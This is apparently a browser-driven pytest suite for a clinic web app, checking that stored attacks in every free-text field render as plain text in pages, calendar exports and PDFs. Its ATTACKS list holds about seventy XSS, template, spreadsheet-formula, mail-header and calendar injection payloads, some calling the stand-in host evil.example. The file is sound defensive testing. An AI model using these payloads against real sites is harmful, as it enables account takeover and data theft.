"""Attacks stored through every free-text field there is, and looked for in a real browser."""

import io
import re
from typing import Any
from uuid import uuid4

import pytest
from pypdf import PdfReader

from tests import test_bad_input as bad_input
from tests.conftest import API
from tests.dashboard.chromium import tab
from tests.journey.rfc5545 import checked
from tests.test_bad_input import BODIES, EVENT, MARK, places, routes, written

ids, send = bad_input.ids, bad_input.send
# What runs in a tag, an attribute, an address, a script, a style, a comment, a title, a template;
# what breaks lines of mails and calendars; what opens in a sheet.  Each ends in its own number.
ATTACKS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>",
    "<img src=//evil.example/a>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<math href=javascript:alert(1)>x",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "javascript:alert(1)", "data:text/html,x",
    "vbscript:msgbox(1)", "//evil.example", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus x='",
    "` onload=alert(1) `", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "\" hx-get=\"//evil.example\" hx-trigger=\"load", "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=alert(1)>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xss style=animation:x onanimationstart=alert(1)>",
    "[x](javascript:alert(1))", "![x](//evil.example/a.png)", "<javascript:alert(1)>", "{{7*7}}", "${7*7}", "{%x%}", "#{7*7}",
    "<%=7*7%>", "=HYPERLINK('//evil.example')", "+1+cmd|'/C calc'!A0", "@SUM(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\u200bipt>alert(1)", "\uff1cscript\uff1ealert(1)", "\u202e<script>alert(1)</script>", "<\u212bscript>alert(1)",
    "\\r\\nBcc: eve@evil.example", "END:VEVENT;ATTACH:file:///etc/passwd", "<![CDATA[<script>alert(1)]]>", "<?xml x?><!DOCTYPE x>",
]  # fmt: skip
PAGES = [
    ("nora", "/"), ("nora", "/queues/nursing"), ("nora", "/patients/{ana}"), ("nora", "/alerts/{alert_id}"),
    ("omar", "/patients/{ana}/visit"), ("nora", "/patients/{ana}/notes"), ("nora", "/content/{article_id}"),
    ("nora", "/content/{article_id}/preview"), ("nora", "/support"), ("nora", "/support-requests/{request_id}"),
    ("nora", "/cascade/{cascade_id}"), ("sol", "/patients/{ana}/safety-plan"), ("ada", "/clinic"),
    ("ada", "/staff"), ("eva", "/lab/{draft_id}"), ("nora", "/queue"),
]  # fmt: skip


@pytest.fixture
def stored(app, call, send, world, ids) -> Any:
    """Put an attack into each free-text field of each route, each field another, in turn."""
    turn = 0
    taken = set()
    for route in routes(app):
        body = BODIES.get(route.name)
        if body is None or "/auth/" in route.name or route.method == "DELETE":
            continue
        fields = [at for at in places(body) if _at(body, at) == MARK]
        if not fields or route.name in {
            "POST /alerts/{alert_id}/close",
            "POST /cascade/{cascade_id}/end",
        }:
            continue
        filled = body
        for at in fields:
            filled = _with(filled, at, ATTACKS[turn % len(ATTACKS)])
            turn += 1
        answer = send(route, written(filled))
        if answer.status_code < 300:
            taken.add(route.name)
    note = {"id": str(uuid4()), "text": "\n".join(ATTACKS)}
    assert call("nora", f"POST /patients/{world['ana'].patient_id}/notes", note).status_code == 201
    return ids | {"ana": world["ana"].patient_id}, taken


def _at(body: Any, at: tuple[Any, ...]) -> Any:
    for step in at:
        body = body[step]
    return body


def _with(body: Any, at: tuple[Any, ...], value: str) -> Any:
    if not at:
        return value
    copy = dict(body) if isinstance(body, dict) else list(body)
    copy[at[0]] = _with(copy[at[0]], at[1:], value)
    return copy


@pytest.mark.browser
def test_s30_s31_s63_stored_attacks_are_text_on_every_page(chromium, address, browse, stored):
    """No dialog, no violation of the policy, no request to anybody else: ``tab`` complains of each."""
    assert len(ATTACKS) >= 60
    known, taken = stored
    assert len(taken) > 25
    shown = ""
    for name in dict.fromkeys(name for name, _path in PAGES):
        cookie = browse(name).client.get_cookie("waymark").value
        with tab(chromium, address) as page:
            page.context.add_cookies([{"name": "waymark", "value": cookie, "url": address}])
            for path in (path for who, path in PAGES if who == name):
                answer = page.goto(path.format(**known))
                assert answer.status == 200, path
                assert page.evaluate(_STRANGE) == [], path
                shown += page.inner_text("body")
    assert [one for one in ATTACKS if one not in shown] == []


@pytest.mark.browser
def test_s31_the_browser_runs_nothing_that_found_its_way_into_a_page(chromium, address):
    context = chromium.new_context(base_url=address)
    page = context.new_page()
    page.goto("/sign-in")
    refused = page.evaluate(_FORCED_IN)
    page.wait_for_function("() => document.querySelector('#late')")
    ran = page.evaluate("() => window.ran || null")
    context.close()

    assert refused == ["TypeError"] * 3
    assert ran is None


def test_s30_s38_stored_attacks_are_text_in_calendars_and_on_paper(call, world):
    """As many lines as without them, each attack whole; the PDF runs and opens nothing."""
    for attack in ATTACKS:
        event = EVENT | {"id": str(uuid4()), "title": attack, "place": attack, "notes": attack}
        assert call("ana", "POST /patients/me/events", event).status_code == 201, attack
    for attack in ATTACKS[:10]:
        asked = {"id": str(uuid4()), "text": attack}
        assert call("ana", "POST /patients/me/questions", asked).status_code == 201
    link = call("ana", "POST /patients/me/calendar-link").json["url"].partition(API)[2]

    calendar = checked(call(None, f"GET {link}").data)
    pdf = call("omar", f"GET /patients/{world['ana'].patient_id}/visit-summary.pdf").data

    events = calendar.of("VEVENT")
    # What only steers how letters are shown is a space in a calendar.
    shown = {re.sub("[\u200b\u202e]", " ", one).strip() for one in ATTACKS}
    assert set(map(_unescaped, events)) ^ shown == set()
    assert {tuple(name for name, *_ in one.properties) for one in events} == {
        tuple(name for name, *_ in events[0].properties)
    }
    assert "ATTACH" not in {name for one in events for name, *_ in one.properties}
    for word in (b"/JavaScript", b"/JS ", b"/URI", b"/Launch", b"/EmbeddedFile", b"/OpenAction"):
        assert word not in pdf
    printed = " ".join(part.extract_text() for part in PdfReader(io.BytesIO(pdf)).pages)
    assert "<script>alert(1)</script>" in re.sub(r"\s", "", printed)


def _unescaped(event):
    return re.sub(r"\\([\\;,])", r"\1", event["SUMMARY"])


_STRANGE = """() => [...document.querySelectorAll(
  "script:not([src^='/static/']), iframe, object, embed, base, style, [style], video, audio, math, "
  + "meta[http-equiv], link:not([href^='/static/']), form[action^='//'], [href^='javascript:'], [href^='data:']"
)].map((one) => one.outerHTML)
  .concat([...document.querySelectorAll("*")].flatMap((one) => [...one.attributes]
    .filter((at) => /^on/.test(at.name) || (/^(src|srcdoc|href|action|data|formaction|hx-.*)$/.test(at.name)
      && /evil|script:|alert\\(/.test(at.value)))
    .map((at) => at.name + "=" + at.value)))"""

# HTML and scripts without a policy, a policy of another's making, and a script as an element.
_FORCED_IN = """() => {
  const tries = [
    () => { document.body.innerHTML = "<img src=x onerror='window.ran = 1'>"; },
    () => { document.createElement("script").text = "window.ran = 2"; },
    () => trustedTypes.createPolicy("another", { createHTML: (html) => html }),
  ];
  const refused = tries.map((one) => { try { one(); return "taken"; } catch (error) { return error.name; } });
  const button = document.createElement("button");
  button.setAttribute("id", "late");
  document.body.append(button);
  const script = document.createElement("script");
  script.append("window.ran = 3");
  document.body.append(script);
  return refused;
}"""
